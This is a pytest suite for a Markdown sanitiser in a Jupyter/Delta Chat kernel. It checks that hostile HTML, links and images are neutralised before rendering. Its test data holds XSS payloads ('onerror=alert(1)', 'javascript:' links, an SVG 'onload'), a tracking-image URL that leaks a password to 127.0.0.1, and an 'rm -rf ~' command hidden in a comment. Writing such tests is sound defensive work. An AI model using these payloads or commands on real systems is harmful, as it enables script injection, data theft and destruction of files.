"""``neutralize`` and ``extract_code`` over the payload corpus (tests/security/payloads.json).

The rendered HTML is checked independently of the neutraliser: a permissive CommonMark
renderer (raw HTML on, every URL accepted, like JupyterLab's trusted Markdown) renders the
result, and Python's HTML parser lists every element and attribute it produced.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt
from payload_corpus import PAYLOAD_IDS, PAYLOADS, payload, payload_markdown

from jupyter_deltachat.kernel.cell_output import extract_code
from jupyter_deltachat.safe_markdown import MAX_DATA_IMAGE_CHARS, code_blocks, neutralize

ALLOWED_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "img", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s",
}  # fmt: skip
LINK_SCHEMES = {"", "http", "https", "mailto"}
DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp)[;,]")
ALIGN = re.compile(r"^text-align:(left|center|right)$")
DOT_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
    "hgGAWjR9awAAAABJRU5ErkJggg=="
)


def permissive_renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


RENDERER = permissive_renderer()


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.comments.append(decl)

    def handle_pi(self, data: str) -> None:
        self.comments.append(data)


def scheme(url: str) -> str:
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    return urlsplit(cleaned).scheme.lower() if ":" in cleaned.split("/")[0] else ""


def unsafe_parts(markdown: str) -> list[str]:
    """Every element, attribute or URL in the rendered ``markdown`` that a reply must not get."""
    parser = Elements()
    parser.feed(RENDERER.render(markdown))
    problems = [f"markup {text!r}" for text in parser.comments]
    for tag, attrs in parser.found:
        if tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            allowed = (
                (tag == "a" and name in ("href", "title"))
                or (tag == "img" and name in ("src", "alt", "title"))
                or (tag == "code" and name == "class" and value.startswith("language-"))
                or (tag in ("th", "td") and name == "style" and ALIGN.match(value))
                or (tag == "ol" and name == "start")
            )
            if not allowed:
                problems.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and scheme(attrs.get("href", "")) not in LINK_SCHEMES:
            problems.append(f"<a href={attrs['href']!r}>")
        if tag == "img" and not DATA_IMAGE.match(attrs.get("src", "")):
            problems.append(f"<img src={attrs['src']!r}>")
    return problems


def test_the_checker_sees_what_the_review_found() -> None:
    raw = payload_markdown(payload("remote-image")) + "\n\n<img src=x onerror=alert(1)>"
    assert unsafe_parts(raw + "\n\n[x](javascript:alert(1))") == [
        "<img src='http://127.0.0.1:9/pixel.gif?d=my%20db%20password%20is%20hunter2'>",
        "<img onerror='alert(1)'>",
        "<img src='x'>",
        "<a href='javascript:alert(1)'>",
    ]


@pytest.mark.parametrize("entry", PAYLOADS, ids=PAYLOAD_IDS)
def test_no_payload_survives_and_kept_text_is_exact(entry: dict[str, Any]) -> None:
    safe = neutralize(payload_markdown(entry))
    assert unsafe_parts(safe) == []
    for kept in entry["keep"]:
        assert kept in safe
    assert neutralize(safe) == safe


@pytest.mark.parametrize(
    "entry_id",
    [
        "keep-code-span-html",
        "keep-fenced-html",
        "keep-indented-code",
        "keep-python-fence",
        "keep-display-math",
        "keep-markdown",
        "keep-small-data-png",
        "keep-relative-link",
        "keep-comparison-text",
        "md-unmatched-backticks",
        "md-tilde-fence-unclosed",
    ],
)
def test_markdown_without_html_is_left_exactly_as_it_is(entry_id: str) -> None:
    markdown = payload_markdown(payload(entry_id))
    assert neutralize(markdown) == markdown


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("a <img src=x onerror=alert(1)> b", "a &lt;img src=x onerror=alert(1)> b"),
        ("<div>\n\n![x](http://h.test/in.png)\n\n</div>", (
            "&lt;div>\n\n[image: x (h.test)](http://h.test/in.png)\n\n&lt;/div>"
        )),
        ("Status: ![](http://127.0.0.1:9/p.gif?d=a%20b)", (
            "Status: [image (127.0.0.1:9)](http://127.0.0.1:9/p.gif?d=a%20b)"
        )),
        ("![logo][l]\n\n[l]: https://h.test/x(1).png", (
            "[image: logo (h.test)](https://h.test/x\\(1\\).png)\n\n[l]: https://h.test/x(1).png"
        )),
        ("![a *b* <i>](//h.test/c.png)", "[image: a b \\<i\\> (h.test)](//h.test/c.png)"),
        ("\\<b> \\\\<i>", "\\<b> \\\\&lt;i>"),
        ("![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)", (
            "image: x image: y"
        )),
        (f"![dot]({DOT_PNG})", f"![dot]({DOT_PNG})"),
        ("[open](JavaScript:alert(1)) [b][r]\n\n[r]: vbscript:x", "open b\n\n[r]: vbscript:x"),
        ("[ok](https://h.test/) <https://h.test/a> <a@h.test>", (
            "[ok](https://h.test/) <https://h.test/a> <a@h.test>"
        )),
        ("<javascript:alert(1)> [c](&#x6A;avascript:alert(1))", "&lt;javascript:alert(1)> c"),
        ("$a<b$ and $$\n0<x\n$$ and `<b>`", "$a\\lt b$ and $$\n0\\lt x\n$$ and `<b>`"),
        ("> q <b>x</b>\n> `<i>`", "> q &lt;b>x&lt;/b>\n> `<i>`"),
        ("| <b> | `<i>` |\n|---|---|\n| ![t](http://h.test/t.png) | y |", (
            "| &lt;b> | `<i>` |\n|---|---|\n| [image: t (h.test)](http://h.test/t.png) | y |"
        )),
        ("a\r\nb\0", "a\nb\ufffd"),
    ],
)  # fmt: skip
def test_exact_rewrites(markdown: str, expected: str) -> None:
    assert neutralize(markdown) == expected


def test_data_images_only_small_raster_ones() -> None:
    small = "data:image/gif;base64," + "A" * (MAX_DATA_IMAGE_CHARS - 22)
    big = small + "A"
    assert neutralize(f"![s]({small})") == f"![s]({small})"
    assert neutralize(f"![b]({big})") == "image: b"
    for media_type in ("image/svg+xml", "text/html", "image/png-but-not"):
        assert neutralize(f"![x](data:{media_type},x)") == "image: x"


def test_html_hidden_by_a_backtick_inside_an_attribute_is_escaped_too() -> None:
    markdown = '<a title="`">  `<img src=x onerror=alert(1)>`'
    safe = neutralize(markdown)
    assert unsafe_parts(safe) == []
    assert safe == '&lt;a title="`">  `&lt;img src=x onerror=alert(1)>`'


@pytest.mark.parametrize("entry", [e for e in PAYLOADS if e["code"] is not None], ids=str)
def test_extract_code_takes_only_real_code_blocks(entry: dict[str, Any]) -> None:
    assert extract_code(payload_markdown(entry)) == entry["code"]


def test_code_blocks_in_order_with_their_language() -> None:
    markdown = "<!--\n```sh\nrm -rf ~\n```\n-->\n\n```Python extra\nx = 1\n```\n\n    y = 2\n"
    assert code_blocks(markdown) == [("python", "x = 1\n"), ("", "y = 2\n")]
    assert extract_code("<div>\n```python\nsteal()\n```\n</div>\n") == (
        "<div>\n```python\nsteal()\n```\n</div>"
    )
